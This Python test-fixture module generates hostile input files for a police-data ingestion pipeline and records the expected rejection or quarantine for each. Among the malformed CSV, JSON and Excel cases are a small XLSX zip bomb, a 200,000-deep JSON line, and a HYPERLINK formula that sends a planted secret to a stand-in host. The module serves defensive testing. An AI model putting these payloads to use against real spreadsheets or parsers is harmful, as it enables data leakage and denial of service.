"""Hostile-input corpus: exports an attacker or a careless agency could drop, each with its exact expected outcome.

Generated, never committed: `build(case, folder)` writes a case's files from the synthetic sample exports
(`demo`), so the corpus stays small in the repo. Every hostile row carries `SECRET` in a name
field, so the runner can prove that the value never reaches a log, an error, the private metadata or the
public candidate.

An outcome is either a rejection of the whole export (`rejected`: the error code, named with the file) or the
exact set of quarantined rows, as numbered in the export (`quarantined`: row -> (code, field)), with the counts.
A case whose correct outcome needs work not done yet says so in `pending`: the runner still runs it and counts
crashes, but does not hold it to the outcome (none is pending today).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import demo as samplegen

SECRET = "QZXSECRETQZX"
ROWS = 30  # data rows of the base exports


@dataclass
class Case:
    """One hostile input and its exact expected outcome."""

    name: str
    build: Callable[[Path], list[Path]]
    rejected: str | None = None  # the whole export refused with this error code
    ingested: int | None = ROWS  # data rows counted as read
    # export row -> (code, field); "a|b": the row's reasons are exactly these codes
    quarantined: dict[int, tuple[str, str | None]] = field(default_factory=dict)
    blank_rows: int = 0
    failed_checks: tuple[str, ...] = ()  # blocking checks expected to fail (e.g. quarantine_share)
    pending: str | None = None  # why the outcome is not asserted yet (work owned elsewhere)
    reason: str | None = None  # a rejection's text must say this (the column at fault, the limit, the note)
    env: dict[str, str] = field(default_factory=dict)  # settings for this case (a lower limit, to keep it small)


# ---------------------------------------------------------------------------------------------- base exports


def _base(folder: Path, source: str, name: str | None = None, rows: int = ROWS, seed: int = 11) -> Path:
    gen = samplegen.generate(folder / ".gen", rows=rows, seed=seed, sources=[source])[0]
    return gen.rename(folder / (name or gen.name))


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="cp1252") as fh:  # Rivertown's legacy exports are cp1252
        return list(csv.reader(fh))


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode("cp1252"))
    return path


def stops_csv(edit: Callable[[list[list[str]], list[str]], None], name: str = "rivertown_stops.csv",
              rows: int = ROWS) -> Callable[[Path], list[Path]]:
    """A Rivertown stops CSV (no quoted newlines: data row i is line i + 1) edited by `edit(rows, header)`."""

    def build(folder: Path) -> list[Path]:
        path = _base(folder, "rivertown_stops", name, rows=rows)
        table = _csv_rows(path)
        edit(table, table[0])
        return [_write_csv(path, table)]

    return build


def stops_bytes(edit: Callable[[list[bytes]], list[bytes]], utf8: bool = False) -> Callable[[Path], list[Path]]:
    """A Rivertown stops CSV (cp1252, or converted to UTF-8) edited as raw lines (CRLF-separated, the last one
    empty)."""

    def build(folder: Path) -> list[Path]:
        path = _base(folder, "rivertown_stops")
        data = path.read_bytes()
        if utf8:
            data = data.decode("cp1252").encode("utf-8")
        path.write_bytes(b"\r\n".join(edit(data.split(b"\r\n"))))
        return [path]

    return build


def stops_jsonl(edit: Callable[[list[dict]], None]) -> Callable[[Path], list[Path]]:
    """A Lakeview stops JSON Lines export (data row i is line i) edited as records."""

    def build(folder: Path) -> list[Path]:
        path = _base(folder, "lakeview_stops")
        recs = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
        edit(recs)
        path.write_text("".join(json.dumps(r) + "\n" for r in recs), encoding="utf-8")
        return [path]

    return build


def _set(row: int, **cells: str) -> Callable[[list[list[str]], list[str]], None]:
    """Set cells of export row `row` (header = row 1) and plant the secret in the subject's surname."""

    def edit(table: list[list[str]], head: list[str]) -> None:
        r = table[row - 1]
        r[head.index("SUBJ_LAST")] = SECRET
        for k, v in cells.items():
            r[head.index(k)] = v

    return edit


# The reader numbers JSON Lines records like CSV rows under a header: line n is row n + 1, blank lines included.
JSONL_ROW_OFFSET = 1


def _jset(line: int, **cells: object) -> Callable[[list[dict]], None]:
    """Set fields of the record on line `line` and plant the secret in the subject's surname."""

    def edit(recs: list[dict]) -> None:
        recs[line - 1]["subjectLastName"] = SECRET
        recs[line - 1].update(cells)

    return edit


def _short(row: int, keep: int) -> Callable[[list[list[str]], list[str]], None]:
    def edit(table: list[list[str]], head: list[str]) -> None:
        table[row - 1][head.index("SUBJ_LAST")] = SECRET
        del table[row - 1][keep:]

    return edit


def _long(row: int, extra: int) -> Callable[[list[list[str]], list[str]], None]:
    def edit(table: list[list[str]], head: list[str]) -> None:
        table[row - 1][head.index("SUBJ_LAST")] = SECRET
        table[row - 1] += [SECRET] * extra

    return edit


def _all_dates_iso(table: list[list[str]], head: list[str]) -> None:
    d = head.index("STOP_DATE")
    for r in table[1:]:
        m, day, y = r[d].split("/")
        r[d] = f"{y}-{m}-{day}"


def _header_only(table: list[list[str]], head: list[str]) -> None:
    del table[1:]


def _blank_rows(lines: list[bytes]) -> list[bytes]:
    width = lines[0].count(b",")
    return lines[:5] + [b"", b"," * width] + lines[5:]


def _dst(recs: list[dict]) -> None:
    """Offsets on both sides of a daylight-saving change, and values without one, in one export."""
    for i, r in enumerate(recs[:8]):
        r["stopDateTime"] += ("-08:00", "-07:00")[i % 2]


def _duplicate_export(folder: Path) -> list[Path]:
    a = _base(folder, "rivertown_stops")
    b = folder / "rivertown_stops_copy.csv"
    b.write_bytes(a.read_bytes())
    return [a, b]


def _long_cell(table: list[list[str]], head: list[str]) -> None:
    table[3][head.index("SUBJ_FIRST")] = "A" * 200_000


def _bom(lines: list[bytes]) -> list[bytes]:  # a UTF-8 export with a byte-order mark
    return [b"\xef\xbb\xbf" + lines[0], *lines[1:]]


def _lf_mixed(lines: list[bytes]) -> list[bytes]:
    return [lines[0], lines[1] + b"\n" + lines[2], *lines[3:]]


def _unknown_header(table: list[list[str]], head: list[str]) -> None:
    head[head.index("STOP_NO")] = "SOMETHING_ELSE"


def _cp1252(lines: list[bytes]) -> list[bytes]:
    """One cp1252 byte in a UTF-8 export, in a name."""
    cells = lines[9].split(b",")
    cells[7] = cells[7] + b"\xe9"
    lines[9] = b",".join(cells)
    return lines


def _unclosed_quote_at_end(lines: list[bytes]) -> list[bytes]:
    """A quote opened in the last cell of a row: the next record is read into that cell."""
    cells = lines[9].split(b",")
    cells[-1] = b'"' + cells[-1]
    lines[9] = b",".join(cells)
    return lines


def _unclosed_quote(lines: list[bytes]) -> list[bytes]:
    lines[9] = lines[9].replace(b",", b',"', 1)
    return lines


def _truncated_in_quote(lines: list[bytes]) -> list[bytes]:
    body = b"\r\n".join(lines).rstrip(b"\r\n")
    cut = body.rfind(b'"')  # inside the last quoted cell of the last record
    return [body[:cut]]


def _nul(lines: list[bytes]) -> list[bytes]:
    lines[6] = lines[6].replace(b",", b",\x00", 1)
    return lines


def _bad_json_line(folder: Path) -> list[Path]:
    path = stops_jsonl(lambda recs: None)(folder)[0]
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[6] = lines[6][:-5]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return [path]


def _empty_file(folder: Path) -> list[Path]:
    p = folder / "rivertown_stops.csv"
    p.write_bytes(b"")
    return [p]


def _extra_column(table: list[list[str]], head: list[str]) -> None:
    head.append("NOTES")
    for r in table[1:]:
        r.append("")


def _duplicate_header(table: list[list[str]], head: list[str]) -> None:
    head.append("RACE")
    for r in table[1:]:
        r.append("W")


def _missing_column(table: list[list[str]], head: list[str]) -> None:
    i = head.index("STOP_DATE")
    for r in table:
        del r[i]


def _header_case(table: list[list[str]], head: list[str]) -> None:
    head[:] = [f" {h.lower()} " for h in head]


def _wide_row(table: list[list[str]], head: list[str]) -> None:
    table[5][head.index("SUBJ_LAST")] = SECRET
    table[5] += [""] * 1000


def _quoted_newline(table: list[list[str]], head: list[str]) -> None:
    table[3][head.index("LOCATION")] = "1 MAIN ST\nAPT 2"


def _whitespace_row(lines: list[bytes]) -> list[bytes]:
    width = lines[0].count(b",")
    return lines[:4] + [b" ," * width + b" "] + lines[4:]


def _semicolons(lines: list[bytes]) -> list[bytes]:
    return [ln.replace(b",", b";") for ln in lines]


def _utf16(folder: Path) -> list[Path]:
    path = _base(folder, "rivertown_stops")
    path.write_bytes(path.read_bytes().decode("cp1252").encode("utf-16"))
    return [path]


def _gzip(truncate: bool) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        import gzip

        path = _base(folder, "rivertown_stops")
        data = gzip.compress(path.read_bytes())
        gz = path.with_name(path.name + ".gz")
        gz.write_bytes(data[: len(data) // 2] if truncate else data)
        path.unlink()
        return [gz]

    return build


def _jsonl_lines(edit: Callable[[list[str]], None]) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        path = _base(folder, "lakeview_stops")
        lines = path.read_text(encoding="utf-8").splitlines()
        edit(lines)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return [path]

    return build


def _jline(line: int, value: str) -> Callable[[list[str]], None]:
    def edit(lines: list[str]) -> None:
        lines[line - 1] = value

    return edit


def _jdrop(line: int, key: str) -> Callable[[list[dict]], None]:
    def edit(recs: list[dict]) -> None:
        recs[line - 1]["subjectLastName"] = SECRET
        del recs[line - 1][key]

    return edit


def _jextra(recs: list[dict]) -> None:
    recs[4]["subjectLastName"] = SECRET
    recs[4]["unexpected"] = "x"


def _jdup_id(recs: list[dict]) -> None:
    recs[9]["subjectLastName"] = SECRET
    recs[9]["stopId"] = recs[8]["stopId"]


def _json_array(folder: Path) -> list[Path]:
    path = _base(folder, "lakeview_stops")
    recs = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    out = path.with_suffix(".json")
    out.write_text(json.dumps(recs), encoding="utf-8")
    path.unlink()
    return [out]


def _xlsx(edit: Callable[[Any], None]) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        import openpyxl

        path = _base(folder, "harbor_city_incidents")
        wb = openpyxl.load_workbook(path)
        edit(wb.active)
        wb.save(path)
        return [path]

    return build


def _xlsx_formula(ws: Any) -> None:
    ws.cell(row=4, column=9).value = '=HYPERLINK("http://x.example/?q=' + SECRET + '")'


def _xlsx_bad_date(ws: Any) -> None:
    ws.cell(row=3, column=2).value = "not a date " + SECRET


def _xlsx_far_cell(ws: Any) -> None:
    ws["XFD1048576"] = "x"


def _xlsx_sheet_renamed(ws: Any) -> None:
    ws.title = "Sheet1"


def _xlsx_header_only(ws: Any) -> None:
    ws.delete_rows(2, ws.max_row)


def _deep_line(lines: list[str]) -> None:
    lines[6] = "[" * 200_000 + "]" * 200_000  # a 200,000-deep JSON value on line 7


def _jsonl_bytes(edit: Callable[[list[bytes]], None]) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        path = _base(folder, "lakeview_stops")
        lines = path.read_bytes().split(b"\n")
        edit(lines)
        path.write_bytes(b"\n".join(lines))
        return [path]

    return build


def _jsonl_cp1252(lines: list[bytes]) -> None:
    lines[4] = lines[4].replace(b'"subjectLastName": "', b'"subjectLastName": "\xe9' + SECRET.encode(), 1)


def _jsonl_nul(lines: list[bytes]) -> None:
    lines[4] = lines[4].replace(b'"subjectLastName": "', b'"subjectLastName": "\x00' + SECRET.encode(), 1)


def _jsonl_crlf(lines: list[bytes]) -> None:
    lines[:] = [ln + b"\r" if ln else ln for ln in lines]


def _cr_only(lines: list[bytes]) -> list[bytes]:
    return [b"\r".join(lines)]


def _repeated_header(table: list[list[str]], head: list[str]) -> None:
    table.insert(14, list(head))  # a second export pasted below the first: its header is export row 15


def _dup_pk(table: list[list[str]], head: list[str]) -> None:
    i = head.index("STOP_NO")
    table[11][head.index("SUBJ_LAST")] = SECRET
    table[11][i] = table[10][i]


def _swallow_to_eof(lines: list[bytes]) -> list[bytes]:
    """A quote opened in row 10 that nothing closes: every later record is read into one cell."""
    lines = [ln.replace(b'"', b"") .replace(b", ", b" ") for ln in lines]
    cells = lines[9].split(b",")
    cells[3] = b'"' + cells[3]
    lines[9] = b",".join(cells)
    return lines


def _swallow_two(lines: list[bytes]) -> list[bytes]:
    """A quote opened in row 10, closed by the opening quote of row 12's officer: rows 11 and 12 swallowed."""
    lines[10] = lines[10].replace(b'"', b"").replace(b", ", b" ")
    cells = lines[9].split(b",")
    cells[-1] = b'"' + cells[-1]
    lines[9] = b",".join(cells)
    return lines


def _truncated_last_cell(lines: list[bytes]) -> list[bytes]:
    """The file cut inside the last record's last cell, which is quoted."""
    body = [ln for ln in lines if ln]
    cells = body[-1].split(b",")
    cells[-1] = b'"' + cells[-1][:2]
    body[-1] = b",".join(cells)
    return body


def _trailing_empty_columns(table: list[list[str]], head: list[str]) -> None:
    for r in table:
        r += ["", ""]


def _banner(table: list[list[str]], head: list[str]) -> None:
    table[:0] = [["RIVERTOWN POLICE DEPARTMENT"], ["STOPS EXPORT"]]


def _zero_width_header(lines: list[bytes]) -> list[bytes]:
    lines[0] = lines[0].replace(b"STOP_NO", b"STOP\xe2\x80\x8b_NO", 1)
    return lines


def _no_header(table: list[list[str]], head: list[str]) -> None:
    table[1][head.index("SUBJ_LAST")] = SECRET
    del table[0]


def _xlsx_inflated(folder: Path) -> list[Path]:
    """A zip bomb in small: 6 MB of XML that compresses to a few KB (the limit is lowered to 4 MB for the case;
    the issue's 10 MB file held 1.1 GB against the 1 GiB default)."""
    import zipfile

    path = _base(folder, "harbor_city_incidents")
    src = zipfile.ZipFile(path)
    parts = {i.filename: src.read(i.filename) for i in src.infolist()}
    src.close()
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    parts[sheet] = parts[sheet].replace(b"</worksheet>", b" " * 6_000_000 + b"</worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return [path]


def _xlsx_own_surname(ws: Any) -> None:
    """A suspect whose surname the narrative repeats ("LAST, FIRST" names: the surname is the first token)."""
    head = [c.value for c in ws[1]]
    ws.cell(row=5, column=head.index("Suspect Name") + 1).value = f"{SECRET}, JOHN"
    ws.cell(row=5, column=head.index("Narrative") + 1).value = (
        f"V/{SECRET} provided DOB at the scene. {SECRET} stated the suspect fled.")


def _bad_line_after_blank(lines: list[str]) -> None:
    lines.insert(2, "")  # line 3 is blank
    lines[7] = lines[7][:-3]  # line 8 is cut


def _mixed_offsets(recs: list[dict]) -> None:
    for i, r in enumerate(recs[:9]):
        r["stopDateTime"] += ("Z", "+05:30", "")[i % 3]


def renamed(build: Callable[[Path], list[Path]], name: str) -> Callable[[Path], list[Path]]:
    """The export of `build` under another file name."""

    def b(folder: Path) -> list[Path]:
        return [p.rename(p.with_name(name)) for p in build(folder)]

    return b



CASES: list[Case] = [
    # rows are rows: a short or long row is one quarantined row
    Case("short_row", stops_csv(_short(5, 3)), quarantined={5: ("missing-cell", "SUBJ_DOB")}),
    Case("long_row", stops_csv(_long(7, 3)), quarantined={7: ("extra-cell", None)}),
    Case("two_ragged_rows", stops_csv(lambda t, h: (_short(4, 20)(t, h), _long(12, 1)(t, h))),
         quarantined={4: ("missing-cell", "RACE"), 12: ("extra-cell", None)},
         failed_checks=("quarantine_share",)),  # 2 of 30 rows is over the 5% a release may have
    # values that do not parse or map
    Case("bad_date", stops_csv(_set(4, STOP_DATE="13/45/2023")), quarantined={4: ("type-error", "occurred_at")}),
    Case("bad_time", stops_csv(_set(6, STOP_TIME="25:99 PM")), quarantined={6: ("type-error", "occurred_at")}),
    Case("unmapped_race", stops_csv(_set(6, RACE="Q")), quarantined={6: ("unmapped-code", "subject_race")}),
    Case("bad_boolean", stops_csv(_set(9, FRISK="MAYBE")), quarantined={9: ("type-error", "frisked")}),
    # values in range
    Case("dob_in_future", stops_csv(_set(8, SUBJ_DOB="01/01/2030")),
         quarantined={8: ("constraint-error", "subject_dob")}),
    Case("dob_1800", stops_csv(_set(8, SUBJ_DOB="01/01/1800")), quarantined={8: ("constraint-error", "subject_dob")}),
    Case("dob_feb_30", stops_csv(_set(8, SUBJ_DOB="02/30/1990")), quarantined={8: ("type-error", "subject_dob")}),
    Case("stop_in_1950", stops_csv(_set(10, STOP_DATE="06/01/1950")),
         quarantined={10: ("constraint-error", "occurred_at")}),
    Case("stop_in_2031", stops_csv(_set(10, STOP_DATE="06/01/2031")),
         quarantined={10: ("constraint-error", "occurred_at")}),
    Case("age_1e23", stops_jsonl(_jset(3, subjectAge=1e23)), quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_2pow63", stops_jsonl(_jset(3, subjectAge=2**63)), quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_minus_1e30", stops_jsonl(_jset(3, subjectAge=-1e30)), quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_text", stops_jsonl(_jset(3, subjectAge="forty")), quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_minus_5", stops_jsonl(_jset(3, subjectAge=-5)), quarantined={3 + JSONL_ROW_OFFSET: ("constraint-error", "subject_age")}),
    Case("age_200", stops_jsonl(_jset(3, subjectAge=200)), quarantined={3 + JSONL_ROW_OFFSET: ("constraint-error", "subject_age")}),
    Case("age_121_string", stops_jsonl(_jset(3, subjectAge="121")),
         quarantined={3 + JSONL_ROW_OFFSET: ("constraint-error", "subject_age")}),
    # shapes that must go through every stage
    Case("header_only", stops_csv(_header_only), ingested=0,
         failed_checks=("k_anonymity",)),  # nothing to publish: k of an empty table is 0
    # one row cannot be made 5-anonymous: a refusal naming the reason (the release is not assembled)
    Case("single_row", stops_csv(lambda t, h: None, rows=1), rejected="sdc-unreachable", ingested=None),
    Case("blank_rows", stops_bytes(_blank_rows), blank_rows=2),
    Case("bom", stops_bytes(_bom, utf8=True)),
    Case("utf8", stops_bytes(lambda lines: lines, utf8=True)),
    Case("lf_inside_crlf", stops_bytes(_lf_mixed)),
    Case("dst_offsets", stops_jsonl(_dst)),
    Case("unclosed_quote", stops_bytes(_unclosed_quote), quarantined={10: ("missing-cell", "BEAT")}),
    Case("truncated_in_quote", stops_bytes(_truncated_in_quote), quarantined={31: ("missing-cell", "BADGE")}),
    Case("bad_json_line", _bad_json_line, quarantined={7 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("long_cell", stops_csv(_long_cell)),
    # the agency switched its date format: every row quarantined, the release refused by quarantine_share
    Case("all_dates_switched", stops_csv(_all_dates_iso),
         quarantined={r: ("type-error", "occurred_at") for r in range(2, ROWS + 2)},
         failed_checks=("quarantine_share", "k_anonymity")),
    # the same export twice: every record's primary key twice, quarantined at validation, release refused
    Case("duplicate_export", _duplicate_export, ingested=2 * ROWS, failed_checks=("quarantine_share",)),
    # file names: long (240 bytes, the private store adds its suffixes), with a newline (log lines must not split)
    Case("long_file_name", renamed(stops_csv(_set(5, RACE="Q")), "s" * 236 + ".csv"),
         quarantined={5: ("unmapped-code", "subject_race")}),
    Case("newline_in_file_name", renamed(stops_csv(_set(5, RACE="Q")), "rivertown\nstops.csv"),
         quarantined={5: ("unmapped-code", "subject_race")}),
    # whole-export refusals, named with the file and a code
    Case("empty_file", _empty_file, rejected="unknown-export", ingested=None, reason="empty file"),
    Case("unknown_header", stops_csv(_unknown_header), rejected="unknown-export", ingested=None),
    # shapes of CSV files
    Case("extra_column", stops_csv(_extra_column), rejected="unknown-export", ingested=None,
         reason="extra column ['NOTES']"),
    Case("duplicate_header", stops_csv(_duplicate_header), rejected="unknown-export", ingested=None,
         reason="duplicate header: ['RACE', 'RACE']"),
    Case("missing_column", stops_csv(_missing_column), rejected="unknown-export", ingested=None,
         reason="missing ['STOP_DATE']"),
    Case("header_case_and_spaces", stops_csv(_header_case)),
    Case("wide_row", stops_csv(_wide_row), quarantined={6: ("extra-cell", None)}),
    Case("quoted_newline", stops_csv(_quoted_newline)),
    # a row of spaces is a record without its required key, not a blank row
    Case("whitespace_row", stops_bytes(_whitespace_row), ingested=ROWS + 1,
         quarantined={5: ("constraint-error|primary-key", "stop_id")}),
    Case("semicolons", stops_bytes(_semicolons)),
    Case("utf16", _utf16),
    Case("gzip", _gzip(False)),
    Case("gzip_truncated", _gzip(True), rejected="unknown-export", ingested=None),
    # shapes of JSON exports
    Case("jsonl_not_an_object", _jsonl_lines(_jline(5, "[1, 2, 3]")),
         quarantined={5 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("jsonl_nested_value", stops_jsonl(_jset(6, zone={"a": {"b": [1]}}))),
    Case("jsonl_missing_key", stops_jsonl(_jdrop(7, "stopDateTime")),
         quarantined={7 + JSONL_ROW_OFFSET: ("constraint-error", "stopDateTime")}),
    Case("jsonl_extra_key", stops_jsonl(_jextra), rejected="unknown-export", ingested=None,
         reason="extra column ['unexpected']"),
    Case("jsonl_duplicate_id", stops_jsonl(_jdup_id),  # the second record with the key is quarantined
         quarantined={10 + JSONL_ROW_OFFSET: ("primary-key|unique-error", "stop_id")}),
    Case("jsonl_blank_lines", _jsonl_lines(lambda lines: lines.insert(3, ""))),
    Case("json_array", _json_array, rejected="unknown-export", ingested=None),  # Lakeview sends JSON Lines
    # Excel
    Case("xlsx_formula", _xlsx(_xlsx_formula), quarantined={4: ("formula-cell", "Victim Name")}),
    Case("xlsx_bad_date", _xlsx(_xlsx_bad_date), quarantined={3: ("type-error", "reported_at")}),
    # reader-level cases (issue 16)
    Case("cp1252_byte_in_utf8", stops_bytes(_cp1252, utf8=True), quarantined={10: ("encoding-error", "SUBJ_FIRST")}),
    Case("nul_byte", stops_bytes(_nul), quarantined={7: ("encoding-error", "STOP_DATE")}),
    Case("unclosed_quote_swallows_next", stops_bytes(_unclosed_quote_at_end),
         quarantined={10: ("parse-error", "BADGE")}),
    # the issue's other reader cases, and more of our own
    Case("xlsx_far_cell", _xlsx(_xlsx_far_cell), rejected="unknown-export", ingested=None, reason="size-limit"),
    Case("xlsx_sheet_renamed", _xlsx(_xlsx_sheet_renamed), rejected="unknown-export", ingested=None,
         reason="sheet-error (field 'Incidents')"),
    Case("xlsx_header_only", _xlsx(_xlsx_header_only), ingested=0, failed_checks=("k_anonymity",)),
    Case("jsonl_deep_line", _jsonl_lines(_deep_line), quarantined={7 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("jsonl_null_line", _jsonl_lines(_jline(5, "null")), quarantined={5 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("jsonl_cp1252_byte", _jsonl_bytes(_jsonl_cp1252),
         quarantined={5 + JSONL_ROW_OFFSET: ("encoding-error", None)}),
    Case("jsonl_nul_byte", _jsonl_bytes(_jsonl_nul), quarantined={5 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("jsonl_crlf", _jsonl_bytes(_jsonl_crlf)),
    Case("age_nan", stops_jsonl(_jset(3, subjectAge=float("nan"))),
         quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_infinity", stops_jsonl(_jset(3, subjectAge=float("inf"))),
         quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("age_boolean", stops_jsonl(_jset(3, subjectAge=True)),
         quarantined={3 + JSONL_ROW_OFFSET: ("type-error", "subject_age")}),
    Case("cr_only_line_ends", stops_bytes(_cr_only)),
    Case("repeated_header", stops_csv(_repeated_header), ingested=ROWS + 1,
         quarantined={15: ("type-error|unmapped-code", "occurred_at")}),
    Case("duplicate_key", stops_csv(_dup_pk), quarantined={12: ("primary-key|unique-error", "stop_id")}),
    Case("unclosed_quote_to_eof", stops_bytes(_swallow_to_eof), quarantined={10: ("parse-error", "LOCATION")}),
    Case("unclosed_quote_swallows_two", stops_bytes(_swallow_two), quarantined={10: ("parse-error", "BADGE")}),
    Case("truncated_in_last_cell", stops_bytes(_truncated_last_cell), quarantined={31: ("parse-error", "BADGE")}),
    Case("trailing_empty_columns", stops_csv(_trailing_empty_columns)),
    Case("banner_rows", stops_csv(_banner)),
    Case("zero_width_in_header", stops_bytes(_zero_width_header, utf8=True)),
    Case("formula_in_cells", stops_csv(_set(7, LOCATION="=HYPERLINK(\"http://x.example\")", SUBJ_FIRST="@SUM(1)"))),
    # an export without its header row: refused, and the first record is not quoted as "its headers"
    Case("no_header_row", stops_csv(_no_header), rejected="unknown-export", ingested=None,
         reason="is the header row missing?"),
    Case("xlsx_zip_bomb", _xlsx_inflated, rejected="unknown-export", ingested=None, reason="OSD_XLSX_MAX_BYTES",
         env={"OSD_XLSX_MAX_BYTES": "4000000"}),
    # the verifier is never blind to a record's own surname: the narrative is withheld, the secret never published
    Case("own_surname_in_narrative", _xlsx(_xlsx_own_surname)),
    # a JSON Lines row is its line number + 1, blank lines included: the officer finds the line
    Case("jsonl_bad_line_after_blank", _jsonl_lines(_bad_line_after_blank),
         quarantined={8 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
    Case("mixed_offsets", stops_jsonl(_mixed_offsets)),
    Case("name_250_bytes_no_contract", renamed(stops_csv(_unknown_header), "u" * 246 + ".csv"),
         rejected="unknown-export", ingested=None, reason="matches no source contract"),
    Case("unicode_name", stops_csv(_set(8, SUBJ_FIRST="ÑÚÑEZ"))),
]


def build(case: Case, folder: Path) -> list[Path]:
    """Write the case's export(s) into `folder` (created); returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    return case.build(folder)
